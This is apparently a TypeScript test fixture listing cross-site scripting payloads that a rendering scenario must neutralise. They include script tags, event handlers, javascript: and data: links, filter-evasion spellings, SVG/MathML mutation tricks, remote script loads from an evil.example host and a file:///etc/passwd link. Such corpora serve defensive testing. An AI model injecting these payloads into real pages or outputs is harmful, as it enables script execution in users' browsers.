const CALL = "alert(1)";

/**
 * Some hundred texts of which each would run a script if it were taken for more than text: elements, handlers and links
 * in the spellings that have got past filters before. Each calls a dialog, which fails the scenario (stage.ts).
 */
export const scripts: readonly string[] = [
  ...elements(),
  ...handlers(),
  ...links(),
  ...brokenOut(),
  ...foreignContent(),
];

function elements(): string[] {
  const spellings = [
    `<script>${CALL}</script>`,
    `<SCRIPT>${CALL}</SCRIPT>`,
    `<script >${CALL}</script >`,
    `<script/x>${CALL}</script>`,
    `<scr<script>ipt>${CALL}</scr</script>ipt>`,
    `<script\n>${CALL}</script\n>`,
    `<script src=//evil.example/x.js></script>`,
    `<script src="data:text/javascript,${CALL}"></script>`,
    `<script type=module>${CALL}</script>`,
    `&lt;script&gt;${CALL}&lt;/script&gt;`,
    `&#60;script&#62;${CALL}&#60;/script&#62;`,
    `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
    `%3Cscript%3E${CALL}%3C/script%3E`,
    `<\u0000script>${CALL}</script>`,
    `＜script＞${CALL}＜/script＞`,
    `<!--<script>${CALL}</script>-->`,
    `<![CDATA[<script>${CALL}</script>]]>`,
    `<?xml version="1.0"?><script>${CALL}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
    `<template><script>${CALL}</script></template>`,
  ];
  const frames = ["iframe", "frame", "embed", "object", "portal", "fencedframe"].flatMap((tag) => [
    `<${tag} src="javascript:${CALL}"></${tag}>`,
    `<${tag} data="javascript:${CALL}"></${tag}>`,
    `<${tag} srcdoc="<script>${CALL}</script>"></${tag}>`,
    `<${tag} src="data:text/html,<script>${CALL}</script>"></${tag}>`,
  ]);
  const pages = [
    `<base href="javascript:${CALL}//">`,
    `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
    `<link rel=stylesheet href="javascript:${CALL}">`,
    `<style>@import 'javascript:${CALL}';</style>`,
    `<style>*{background:url("javascript:${CALL}")}</style>`,
    `<div style="width:expression(${CALL})">x</div>`,
    `<form action="javascript:${CALL}"><input type=submit></form>`,
    `<button formaction="javascript:${CALL}">x</button>`,
    `<input type=image src=x formaction="javascript:${CALL}">`,
    `<isindex action="javascript:${CALL}">`,
  ];
  return [...spellings, ...frames, ...pages];
}

function handlers(): string[] {
  const tags = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "a",
    "p",
  ];
  const events = [
    "onerror",
    "onload",
    "onfocus",
    "onclick",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onwheel",
    "onbegin",
  ];
  const plain = tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=${CALL}>`));
  const spelled = events.flatMap((event) => [
    `<img/src=x/${event}=${CALL}>`,
    `<img src=x ${event.toUpperCase()}="${CALL}">`,
    `<img src=x ${event}\u000c=${CALL}>`,
    `<img src="x" ${event}='${CALL}'//`,
    `<img src=x ${event}=&#97;lert(1)>`,
    `<img \u0000 src=x ${event}=${CALL}>`,
  ]);
  return [...plain, ...spelled];
}

function links(): string[] {
  const schemes = [
    `javascript:${CALL}`,
    `JaVaScRiPt:${CALL}`,
    ` javascript:${CALL}`,
    `java\tscript:${CALL}`,
    `java\nscript:${CALL}`,
    `java\u0001script:${CALL}`,
    `\u0001javascript:${CALL}`,
    `javascript&colon;${CALL}`,
    `javascript&#58;${CALL}`,
    `&#106;avascript:${CALL}`,
    `javascript://%0a${CALL}`,
    `javascript:/*x*/${CALL}`,
    `vbscript:msgbox(1)`,
    `livescript:${CALL}`,
    `data:text/html,<script>${CALL}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg onload=${CALL}>`,
    `blob:https://evil.example/x`,
    `file:///etc/passwd`,
    `//javascript:${CALL}`,
  ];
  return schemes.flatMap((target) => [
    `[x](${target})`,
    `[x](<${target}>)`,
    `![x](${target})`,
    `<${target}>`,
    `[x][1]\n\n[1]: ${target}`,
    `<a href="${target}">x</a>`,
  ]);
}

function brokenOut(): string[] {
  const endings = [
    `">`,
    `'>`,
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
  ];
  return endings.flatMap((ending) => [
    `${ending}<script>${CALL}</script>`,
    `${ending}<img src=x onerror=${CALL}>`,
    `x${ending}<svg onload=${CALL}>`,
  ]);
}

function foreignContent(): string[] {
  return [
    `<svg><script>${CALL}</script></svg>`,
    `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`,
    `<svg><foreignObject><body onload=${CALL}></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${CALL}></style></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
    `<math><mi//xlink:href="javascript:${CALL}">`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
    `<table background="javascript:${CALL}">`,
    `<details open ontoggle=${CALL}>`,
    `<marquee onstart=${CALL}>`,
    `<keygen autofocus onfocus=${CALL}>`,
    `{{constructor.constructor('${CALL}')()}}`,
    `\${${CALL}}`,
    `<x contenteditable onblur=${CALL}>lose focus</x>`,
    `<video><source onerror=${CALL}></video>`,
    `<select><template><img src=x onerror=${CALL}></template></select>`,
  ];
}
